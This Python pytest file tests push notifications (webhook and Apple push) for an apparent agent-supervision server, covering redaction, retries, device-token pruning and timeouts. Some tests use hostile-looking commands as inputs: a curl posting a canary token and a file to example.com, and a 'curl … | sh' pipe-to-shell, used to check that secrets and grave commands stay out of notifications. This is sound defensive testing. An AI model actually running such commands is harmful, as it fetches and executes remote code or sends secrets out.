"""Notifications: what is told to whom, by which route, when nobody looks; and that a route which fails disturbs nobody."""

from __future__ import annotations

import asyncio
import base64
import json
import subprocess
import time
import types
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import oppi
from tests.support.pushes import HANG, Apple, Told, Webhook, receiving
from tests.support.screen import screen
from tests.support.server import Server

from .rig import PUSH, Chat, Rig, bash, eventually, rig_with

PHONE, OTHER = "ab" * 32, "cd" * 32
SECRET = "ghp_CanaryCanaryCanaryCanaryCanaryCana1"


@pytest.fixture
def hook(tmp_path: Path) -> Iterator[tuple[Rig, Webhook]]:
    with receiving(Webhook()) as webhook, rig_with(tmp_path, config={"push": {"webhook": webhook.url}}) as rig:
        yield rig, webhook


@pytest.fixture
def apple(tmp_path: Path) -> Iterator[tuple[Rig, Apple]]:
    with receiving(Apple(tmp_path)) as service, rig_with(tmp_path, config={"pushDeviceTokens": [PHONE]}) as rig:
        (rig.server.data / "apns.json").write_text(service.config())
        yield rig, service


def left_alone(rig: Rig, command: str = PUSH, **fields: Any) -> Chat:
    """A session that has asked something, and whose phone is gone."""
    chat = rig.chat("1.0", **fields)
    chat.ask(command)
    chat.phone.drop()
    return chat


def set_key(rig: Rig, key: str, value: str) -> None:
    command = [*rig.server.program, "config", "set", key, value, "--data-dir", str(rig.server.data)]
    subprocess.run(command, check=True, env=rig.server.env, capture_output=True)


def kinds(told: list[Told]) -> list[str]:
    return [each.headers["tags"] for each in told]


class TestWebhook:
    def test_a_question_that_nobody_sees_is_told_without_what_it_is_about(self, hook: tuple[Rig, Webhook]) -> None:
        rig, webhook = hook
        chat = left_alone(rig, f"curl -H 'Authorization: {SECRET}' https://example.com/x -d @a", name="Café\u202eevil")
        [told] = webhook.wait()
        assert told.text == "bash: Open app to review full command details"
        assert told.headers["tags"] == "warning" and told.headers["click"] == f"oppi://session/{chat.sid}"
        assert told.headers["title"].startswith("=?UTF-8?B?") and told.headers["content-type"].startswith("text/plain")
        assert SECRET not in str(told.headers) + told.text and told.path == "/my-topic"

    def test_nobody_is_told_what_a_phone_sees(self, hook: tuple[Rig, Webhook]) -> None:
        rig, webhook = hook
        watching = rig.chat("1.1")
        request = watching.ask()
        left_alone(rig)  # of another session; the watching phone is shown it too
        watching.phone.answer(request["id"], "allow")
        watching.settled()
        watching.phone.drop()
        [told] = webhook.wait()  # now that it looks away: the other one's question, and of its own nothing
        assert told.headers["tags"] == "warning"

    def test_nobody_is_told_what_was_decided_without_a_person(self, hook: tuple[Rig, Webhook]) -> None:
        rig, webhook = hook
        chat = rig.chat("1.0")
        chat.phone.answer(chat.ask()["id"], "allow", "session")
        chat.settled()
        chat.say("!wait 1000\n" + bash(PUSH))  # the rule answers
        chat.phone.drop()
        told = webhook.wait()
        assert kinds(told) == ["white_check_mark"] and len(webhook.told) == 1

    def test_what_was_answered_elsewhere_is_withdrawn(self, hook: tuple[Rig, Webhook]) -> None:
        rig, webhook = hook
        chat = left_alone(rig)
        webhook.wait()
        phone = rig.phone()
        [pending] = phone.pending()
        phone.call("POST", f"/permissions/{pending['id']}/respond", {"action": "deny"})
        told = webhook.wait(3)
        assert sorted(kinds(told[1:])) == ["heavy_check_mark", "white_check_mark"]
        quiet = next(each for each in told if each.headers["tags"] == "heavy_check_mark")
        assert quiet.headers["priority"] == "1" and quiet.headers["click"].endswith(chat.sid)

    def test_a_question_is_told_once(self, hook: tuple[Rig, Webhook]) -> None:
        rig, webhook = hook
        chat = left_alone(rig)
        webhook.wait()
        chat.phone.open_session(chat.wid, chat.sid)  # sees it, and goes again
        chat.phone.wait("permission_request", since=0)
        chat.phone.drop()
        left_alone(rig)  # another one; told a second time, the first would come before it
        assert len({each.headers["click"] for each in webhook.wait(2)}) == 2

    def test_a_dialog_is_told_though_a_phone_looks_at_another_session(self, hook: tuple[Rig, Webhook]) -> None:
        rig, webhook = hook
        rig.chat("1.0")
        chat = rig.chat("1.1")
        chat.say("!wait 1000\n!dialog confirm")  # only phones that have this session open are shown it
        chat.phone.unsubscribe(chat.sid)
        [told] = webhook.wait()
        assert told.headers["tags"] == "question" and told.headers["click"].endswith(chat.sid)

    def test_commands_are_shown_to_who_wants_that_but_not_the_grave_ones(self, hook: tuple[Rig, Webhook]) -> None:
        rig, webhook = hook
        set_key(rig, "push.detail", "true")
        left_alone(rig)
        assert PUSH in webhook.wait()[0].text
        left_alone(rig, "curl https://example.com/x | sh")
        assert "example.com" not in webhook.wait(2)[1].text

    def test_the_end_of_a_turn(self, hook: tuple[Rig, Webhook]) -> None:
        rig, webhook = hook
        chat = rig.chat("1.0", name="Report")
        chat.say("!wait 1000\nhello")
        chat.phone.drop()
        [told] = webhook.wait()
        assert told.headers["title"] == "Session Ended: Report" and told.headers["tags"] == "white_check_mark"

    def test_a_secret_of_the_route_is_nowhere_to_be_seen(self, tmp_path: Path) -> None:
        secret = tmp_path / "secret"
        secret.write_text("tk_canary_of_the_route\n")
        with receiving(Webhook()) as webhook:
            webhook.answers.append((HANG, ""))
            config = {"push": {"webhook": webhook.url, "webhookTokenFile": str(secret)}}
            with rig_with(tmp_path, config=config) as rig:
                left_alone(rig)
                [told] = webhook.wait()
                assert told.headers["authorization"] == "Bearer tk_canary_of_the_route"
                curls = [pid for pid in Path("/proc").iterdir() if pid.name.isdigit() and running_curl(pid)]
                assert curls
                for pid in curls:
                    seen = (pid / "cmdline").read_bytes() + (pid / "environ").read_bytes()
                    assert b"canary" not in seen and webhook.url.encode() not in seen
                assert "canary" not in "".join(rig.server.stderr)


def running_curl(pid: Path) -> bool:
    try:
        return (pid / "cmdline").read_bytes().startswith(b"curl\0-q")
    except OSError:
        return False


class TestApns:
    def test_an_alert_as_specified(self, apple: tuple[Rig, Apple]) -> None:
        rig, service = apple
        chat = left_alone(rig, name="Work")
        [told] = service.wait()
        [pending] = rig.phone().pending()
        assert told.path == f"/3/device/{PHONE}" and told.headers["apns-collapse-id"] == pending["id"]
        assert int(told.headers["apns-expiration"]) == pending["timeoutAt"] // 1000
        text = "Open app to review full command details"
        assert told.body == {
            "aps": {
                "alert": {"title": "Permission Request", "subtitle": "Work", "body": f"bash: {text}"},
                "category": "PERMISSION_BIOMETRIC", "interruption-level": "active", "relevance-score": 0.7, "sound": "default",
            },
            "permissionId": pending["id"], "sessionId": chat.sid, "risk": "medium", "tool": "bash", "summary": text,
            "timeoutAt": pending["timeoutAt"],
        }  # fmt: skip

    @pytest.mark.parametrize(
        ("status", "reason"), [(410, "Unregistered"), (400, "BadDeviceToken"), (400, "DeviceTokenNotForTopic")]
    )
    def test_a_phone_that_apple_knows_no_longer_is_forgotten(self, apple: tuple[Rig, Apple], status: int, reason: str) -> None:
        rig, service = apple
        rig.phone().call("POST", "/me/device-token", {"deviceToken": OTHER.upper()})
        service.answers.append((status, reason))
        left_alone(rig)
        dead, alive = (told.path.rpartition("/")[2] for told in service.wait(2))  # the first is the one refused
        eventually(lambda: json.loads((rig.server.data / "config.json").read_text())["pushDeviceTokens"] == [alive])
        left_alone(rig)
        assert {dead, alive} == {PHONE, OTHER} and service.wait(3)[2].path.endswith(alive)

    def test_a_phone_that_has_to_wait_keeps_no_other_waiting(self, apple: tuple[Rig, Apple]) -> None:
        rig, service = apple
        rig.phone().call("POST", "/me/device-token", {"deviceToken": OTHER})
        service.answers.append((HANG, ""))
        left_alone(rig)
        assert {told.path.rpartition("/")[2] for told in service.wait(2, oppi.SEND_LIMIT_S - 1)} == {PHONE, OTHER}

    @pytest.mark.parametrize("status", [429, 500, 503])
    def test_what_it_cannot_take_now_is_sent_again(self, apple: tuple[Rig, Apple], status: int) -> None:
        rig, service = apple
        service.answers.append((status, "Shutdown"))
        left_alone(rig)
        first, second = service.wait(2)
        assert first.body == second.body and first.headers["apns-collapse-id"] == second.headers["apns-collapse-id"]

    def test_a_stale_signature_is_renewed_once(self, apple: tuple[Rig, Apple]) -> None:
        rig, service = apple
        service.answers.extend([(403, "ExpiredProviderToken"), (403, "InvalidProviderToken")])
        left_alone(rig)
        first, second = service.wait(2)
        assert first.headers["authorization"] != second.headers["authorization"]
        eventually(lambda: any("was not taken: 403" in line for line in rig.server.stderr))
        assert len(service.told) == 2

    def test_a_refusal_is_not_repeated_and_harms_nobody(self, apple: tuple[Rig, Apple]) -> None:
        rig, service = apple
        service.answers.append((400, "BadTopic"))
        left_alone(rig)
        eventually(lambda: any("BadTopic" in line for line in rig.server.stderr))
        left_alone(rig)
        assert len(service.wait(2)) == 2
        assert not any(PHONE in line for line in rig.server.stderr)

    def test_a_live_activity_in_the_shape_of_the_app_that_asked(self, apple: tuple[Rig, Apple]) -> None:
        rig, service = apple
        set_key(rig, "push.turns", "false")
        rig.phone("1.0").call("POST", "/me/device-token", {"deviceToken": OTHER, "tokenType": "liveactivity"})
        chat = rig.chat("1.0")
        first = service.wait()[0]
        assert first.headers["apns-push-type"] == "liveactivity" and first.path.endswith(OTHER)
        state = first.body["aps"]["content-state"]
        assert state["status"] == "ready" and state["pendingPermissions"] == 0 and isinstance(state["elapsedSeconds"], int)
        chat.ask()
        second = next(t for t in service.wait(2)[1:] if t.headers["apns-push-type"] == "liveactivity")
        assert second.headers["apns-priority"] == "10" and second.body["aps"]["content-state"]["pendingPermissions"] == 1
        assert second.body["aps"]["timestamp"] > first.body["aps"]["timestamp"]
        rig.phone().stop(chat.wid, chat.sid)
        eventually(lambda: any(t.body["aps"].get("event") == "end" for t in service.told))
        eventually(lambda: json.loads((rig.server.data / "config.json").read_text())["liveActivityToken"] == "")

    @pytest.mark.parametrize(
        "text", ["{", "[]", '{"keyPath": "x"}', '{"keyPath":"/nonexistent","keyId":"a","teamId":"b","bundleId":"c"}']
    )
    def test_what_is_not_set_up_rightly_is_said_and_the_server_runs(self, tmp_path: Path, text: str) -> None:
        with rig_with(tmp_path, config={"pushDeviceTokens": [PHONE]}) as rig:
            (rig.server.data / "apns.json").write_text(text)
            left_alone(rig)
            eventually(lambda: any("[push]" in line for line in rig.server.stderr))
            assert rig.phone().health()["ok"]

    def test_a_revoked_phone_is_told_nothing_more(self, apple: tuple[Rig, Apple]) -> None:
        rig, service = apple
        lost = rig.server.pair("1.1")
        lost.call("POST", "/me/device-token", {"deviceToken": OTHER})
        [device] = json.loads((rig.server.data / "devices.json").read_text())["devices"]
        assert rig.server.cli("devices", "revoke", device["id"]).returncode == 0
        left_alone(rig)
        eventually(lambda: service.told)
        rig.phone().call("POST", "/me/device-token", {"deviceToken": "ef" * 32})  # prunes what belongs to nobody
        left_alone(rig)
        service.wait(3)
        assert OTHER not in {told.path.rpartition("/")[2] for told in service.told}
        assert OTHER not in (rig.server.data / "config.json").read_text()


class Sleeper:
    """A socket that is open, and of which nobody knows whether its phone is still there."""

    open, heard, asked, dialect, principal = True, 0.0, 0.0, "1.1", "p"

    def level(self, session_id: str) -> str:
        return "full"

    def deliver(self, *frame: Any) -> None:
        """Whatever it is sent is lost."""

    ping = deliver


@pytest.mark.parametrize("awake", [False, True])
def test_the_end_of_a_turn_is_told_to_whom_only_a_sleeping_phone_looks(monkeypatch: pytest.MonkeyPatch, awake: bool) -> None:
    monkeypatch.setattr(oppi, "ATTENTION_S", 0.9)
    settings, phone, hub = oppi.Settings({"push": {"webhook": "http://localhost/x"}}), Sleeper(), oppi.Hub()
    hub.clients.add(phone)  # type: ignore[arg-type]
    store: Any = types.SimpleNamespace(path=lambda name: f"/no/such/{name}", sessions={})
    notifier, sent = oppi.Notifier(store, lambda: settings, lambda changes: None, hub, set), []
    monkeypatch.setattr(notifier, "send", lambda note: sent.append(note.kind))
    hub.publish({"type": "agent_end", "sessionId": "S1"})
    notifier.look({}, {})
    assert sent == []  # it is asked first
    if awake:
        phone.heard = time.monotonic()
        notifier.look({}, {})
    phone.asked, phone.heard = phone.asked - 1, phone.heard - 1
    notifier.look({}, {})
    assert sent == ([] if awake else ["ended"])


@pytest.mark.parametrize("kind", ["permission", "question"])
def test_what_was_answered_meanwhile_is_not_tried_again(kind: str) -> None:
    store: Any = types.SimpleNamespace(path=lambda name: f"/no/such/{name}")
    tries, note = [], oppi.Note("q", kind, "S1", {}, (10, 4))

    async def refuse() -> tuple[int, str]:
        tries.append(kind)
        return 503, "later"

    async def story() -> None:  # it is in no list of what was told and still waits
        await oppi.Notifier(store, lambda: oppi.Settings({}), lambda changes: None, oppi.Hub(), set)._tries(refuse, note)

    asyncio.run(story())
    assert len(tries) == 1


def test_a_signature_is_used_for_50_minutes_and_never_for_an_hour(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with receiving(Apple(tmp_path)) as service:
        (tmp_path / "apns.json").write_text(service.config())
        apns, now = oppi.Apns(str(tmp_path / "apns.json")), 1_800_000_000.0
        monkeypatch.setattr(oppi.time, "time", lambda: now)
        first = apns.jwt()
        for minutes, same in ((49, True), (51, False)):
            now = 1_800_000_000.0 + minutes * 60
            assert (apns.jwt() == first) is same
        claims = json.loads(base64.urlsafe_b64decode(apns.jwt().split(".")[1] + "=="))
        assert claims == {"iss": "TEAM123456", "iat": 1_800_000_000 + 51 * 60}


class TestNobodyWaits:
    def unhindered(self, rig: Rig, service: Apple | Webhook) -> None:
        """Turns, and the end of the server, take no longer while everything that is sent hangs."""
        service.answers.extend([(HANG, "")] * 20)
        left_alone(rig)
        service.wait()
        chat, began = rig.chat("1.1"), time.monotonic()
        for number in range(10):
            chat.say(f"hello {number}")
            chat.settled()
        assert time.monotonic() - began < oppi.SEND_LIMIT_S  # what waits for one of them waits so long
        began = time.monotonic()
        rig.server.stop()
        assert time.monotonic() - began < oppi.SEND_LIMIT_S

    def test_a_route_that_hangs_slows_no_session(self, hook: tuple[Rig, Webhook]) -> None:
        self.unhindered(*hook)

    def test_neither_does_apples_service(self, apple: tuple[Rig, Apple]) -> None:
        self.unhindered(*apple)


class TestTokens:
    def test_only_what_apple_could_have_given_out_is_kept(self, rig: Rig) -> None:
        phone = rig.phone()
        for token in ("xyz", "ab" * 15, "a" * 201, "../" * 20):
            status, body = phone.request("POST", "/me/device-token", {"deviceToken": token})
            assert (status, body) == (400, {"error": "deviceToken must be 32 to 200 hexadecimal digits"})
        for number in range(25):
            phone.call("POST", "/me/device-token", {"deviceToken": f"{number:064x}"})
        kept = json.loads((rig.server.data / "config.json").read_text())["pushDeviceTokens"]
        assert kept == [f"{number:064x}" for number in range(5, 25)]


class TestCommand:
    def run(self, server: Server, *words: str) -> subprocess.CompletedProcess[str]:
        command = [*server.program, "push", "test", *words, "--data-dir", str(server.data)]
        return subprocess.run(command, env=server.env, capture_output=True, text=True, timeout=60, check=False)

    def test_it_proves_every_route(self, tmp_path: Path) -> None:
        with receiving(Webhook()) as webhook, receiving(Apple(tmp_path)) as service:
            config = {"push": {"webhook": webhook.url}, "pushDeviceTokens": [PHONE]}
            with Server(config=config, start=False) as server:
                (server.data / "apns.json").write_text(service.config())
                done = self.run(server)
                assert (done.returncode, done.stderr) == (0, "") and done.stdout.split("\n")[:2] == [
                    "✓ webhook: 200",
                    "✓ apns: 200",
                ]
                service.answers.append((410, "Unregistered"))
                done = self.run(server, "--json", "--route", "apns")
                assert done.returncode == 1
                assert json.loads(done.stdout) == {"routes": {"apns": {"ok": False, "status": 410, "answer": "Unregistered"}}}
            assert len(webhook.told) == 1

    def test_a_person_is_told_that_it_takes_time(self) -> None:
        with receiving(Webhook()) as webhook, Server(config={"push": {"webhook": webhook.url}}, start=False) as server:
            with screen(server.command("push", "test"), {**server.env, "OPPI_DATA_DIR": str(server.data)}) as shown:
                shown.shows("oppi: sending by webhook...", "✓ webhook: 200", "ended with 0")

    def test_another_certificate_is_not_trusted(self, tmp_path: Path) -> None:
        other = tmp_path / "other"
        other.mkdir()
        with receiving(Apple(tmp_path)) as service, receiving(Apple(other)) as wrong:
            with Server(config={"pushDeviceTokens": [PHONE]}, start=False) as server:
                (server.data / "apns.json").write_text(service.config(caFile=str(wrong.ca_path)))
                done = self.run(server)
                assert done.returncode == 1 and "✗ apns: no answer" in done.stdout and not service.told

    def test_without_a_route_it_says_how_to_set_one_up(self) -> None:
        with Server(start=False) as server:
            done = self.run(server)
            assert done.returncode == 1 and done.stderr.count("\n") == 1 and "push.webhook" in done.stderr
